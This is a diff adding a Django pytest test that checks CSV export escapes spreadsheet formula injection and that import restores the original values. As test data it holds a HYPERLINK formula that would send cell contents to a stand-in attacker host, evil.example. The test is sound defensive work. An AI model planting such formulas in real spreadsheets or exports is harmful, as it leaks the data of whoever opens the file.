@@ -1,5 +1,6 @@
 """Import and export of projects (CSV and JSON), by service, command and API."""
 
+import csv
 import json
 from io import StringIO
 
@@ -192,3 +193,29 @@ def test_api_export_csv_is_public_for_published(project):
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert lines[0] == HEADER.strip()
     assert [line.split(",")[0] for line in lines[1:]] == [project.key]
+
+
+@pytest.mark.django_db
+def test_csv_export_quotes_formulas_and_imports_them_back(project):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    Project.objects.filter(pk=project.pk).update(
+        title=formula, summary="+1 place", city="@home", description="-"
+    )
+
+    exported = projects_export(user=factories.OfficerFactory(), format="csv")
+    [record] = csv.DictReader(StringIO(exported))
+    projects_import(data=exported, format="csv")
+
+    assert (record["title"], record["summary"], record["city"], record["description"]) == (
+        "'" + formula,
+        "'+1 place",
+        "'@home",
+        "'-",
+    )
+    project.refresh_from_db()
+    assert (project.title, project.summary, project.city, project.description) == (
+        formula,
+        "+1 place",
+        "@home",
+        "-",
+    )
